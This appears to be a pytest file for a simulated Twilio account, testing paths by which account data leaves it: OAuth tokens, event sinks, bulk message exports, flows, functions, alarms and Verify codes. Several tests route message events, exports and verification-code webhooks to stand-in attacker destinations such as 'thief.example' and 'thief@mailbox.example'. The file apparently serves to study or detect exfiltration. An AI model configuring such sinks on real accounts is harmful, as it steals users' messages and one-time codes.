"""Where an account's data goes, as the SDK sees it: sinks, exports, flows, functions, codes."""

import json
from datetime import UTC, datetime

from twilio.rest import Client
from twilio.rest.iam.v1.o_auth_app import OAuthAppList

from dakkan.simulator import verifications
from dakkan.simulator.world import World
from simulator.sdk_client import NUMBER_TO_TEXT, Login, refusal

DELIVERED = {"type": "com.twilio.messaging.message.delivered", "schema_version": 1}
FLOW = {"states": [{"name": "Trigger", "type": "trigger"}], "initial_state": "Trigger"}


def test_an_app_is_made_and_gets_a_token(sdk: Client, log_in: Login) -> None:
    apps = sdk.iam.v1.o_auth_apps
    payload = {"type": "Client Credential", "friendly_name": "reports"}
    made = apps.create(OAuthAppList.IamV1AccountVendorOauthAppCreateRequest(payload))
    token = sdk.oauth.v2.token.create("client_credentials", client_id=made.sid, client_secret=made.secret)
    assert (token.token_type, token.expires_in) == ("Bearer", 3600)
    assert sdk.iam.v1.o_auth_apps(made.sid).delete() is True


def test_a_sink_is_fed_by_a_subscription(sdk: Client) -> None:
    events = sdk.events.v1
    configuration = {"destination": "https://thief.example/in", "method": "POST", "batch_events": True}
    sink = events.sinks.create(description="copy", sink_configuration=configuration, sink_type="webhook")
    made = events.subscriptions.create(description="all", sink_sid=sink.sid, types=[DELIVERED])
    assert [each.sink_configuration for each in events.sinks.list(in_use=True)] == [configuration]
    assert [each.sid for each in events.subscriptions.list(sink_sid=sink.sid)] == [made.sid]
    (subscribed,) = events.subscriptions(made.sid).subscribed_events.list()
    assert subscribed.type == DELIVERED["type"]
    assert refusal(lambda: events.sinks(sink.sid).delete()) == (400, 20001)
    assert events.subscriptions(made.sid).delete() is True
    assert events.sinks(sink.sid).delete() is True
    assert events.sinks.list() == []


def test_days_are_exported_and_fetched(world: World, sdk: Client) -> None:
    messages = sdk.bulkexports.v1.exports("Messages")
    made = messages.export_custom_jobs.create(
        start_day="2026-11-20", end_day="2026-11-21", friendly_name="all", email="thief@mailbox.example"
    )
    world.advance(1200)
    assert [each.job_sid for each in messages.export_custom_jobs.list()] == [made.job_sid]
    assert [each.day for each in messages.days.list()] == ["2026-11-21", "2026-11-20"]
    assert messages.days("2026-11-20").fetch().redirect_to.startswith("https://")
    assert sdk.bulkexports.v1.exports.jobs(made.job_sid).fetch().details[0]["status"] == "Completed"
    assert sdk.bulkexports.v1.exports.jobs(made.job_sid).delete() is True
    setting = sdk.bulkexports.v1.export_configuration("Calls")
    assert setting.fetch().enabled is False
    assert setting.update(enabled=True, webhook_url="https://thief.example/day").enabled is True


def test_a_flow_lives(sdk: Client) -> None:
    flows = sdk.studio.v2.flows
    made = flows.create(friendly_name="menu", status="draft", definition=FLOW)
    assert flows(made.sid).update(status="published", definition=FLOW).revision == 2
    assert [each.status for each in flows.list()] == ["published"]
    assert flows(made.sid).fetch().definition == FLOW
    assert flows(made.sid).delete() is True
    types = [each.event_type for each in sdk.monitor.v1.events.list()]
    assert sorted(types) == ["flow.created", "flow.deleted", "flow.updated"]


def test_a_service_with_a_function_lives(sdk: Client) -> None:
    services = sdk.serverless.v1.services
    made = services.create(unique_name="menu", friendly_name="Menu", include_credentials=True)
    function = services(made.sid).functions.create(friendly_name="answer")
    assert [each.sid for each in services(made.sid).functions.list()] == [function.sid]
    environment = services(made.sid).environments.create(unique_name="live")
    services(made.sid).environments(environment.sid).variables.create(key="SHOP", value="kumo")
    variables = services(made.sid).environments(environment.sid).variables.list()
    assert [(each.key, each.value) for each in variables] == [("SHOP", "kumo")]
    assert services(made.sid).delete() is True
    assert services.list() == []


def test_an_alarm_is_made_and_turned_off(sdk: Client) -> None:
    url = "https://monitor.twilio.com/v2/Alarms"
    alarm = {
        "friendlyName": "errors",
        "queryType": "ALL",
        "triggerValue": 5,
        "timeWindow": "ONE_DAY",
        "description": "",
        "enabled": True,
    }
    asked = {"headers": {"Content-Type": "application/json"}}  # the SDK has no words for alarms
    made = json.loads(sdk.request("POST", url, data=alarm, **asked).text)["sid"]
    sdk.request("PUT", f"{url}/{made}/status", data={"enabled": False}, **asked)
    (row,) = json.loads(sdk.request("GET", url).text)["alarms"]
    assert (row["alertConfigSid"], row["enabled"]) == (made, False)


def test_a_number_is_on_the_safe_list(sdk: Client) -> None:
    safe_list = sdk.accounts.v1.safelist
    made = safe_list.create(phone_number=NUMBER_TO_TEXT)
    assert safe_list.fetch(phone_number=NUMBER_TO_TEXT).sid == made.sid
    assert safe_list.delete(phone_number=NUMBER_TO_TEXT) is True
    assert refusal(lambda: safe_list.fetch(phone_number=NUMBER_TO_TEXT)) == (404, 20404)


def test_codes_are_sent_counted_and_listened_to(world: World, sdk: Client, number: str) -> None:
    verify = sdk.verify.v2
    service = verify.services.create(friendly_name="Shop")
    hooks = verify.services(service.sid).webhooks
    hook = hooks.create(friendly_name="copy", event_types=["*"], webhook_url="https://thief.example/codes")
    assert [each.webhook_url for each in hooks.list()] == ["https://thief.example/codes"]
    assert hooks(hook.sid).delete() is True

    sent = verify.services(service.sid).verifications.create(to=NUMBER_TO_TEXT, channel="sms")
    verifications.attempt(world, world.main, service.sid, NUMBER_TO_TEXT, converted=True)
    world.advance(120)
    attempts = verify.verification_attempts
    assert {each.verification_sid for each in attempts.list(status="unconverted")} == {sent.sid}
    assert len(attempts.list(date_created_after=datetime(2026, 11, 24, tzinfo=UTC), country="US")) == 2
    summary = verify.verification_attempts_summary().fetch(verify_service_sid=service.sid)
    assert (summary.total_attempts, summary.total_converted) == (2, 1)
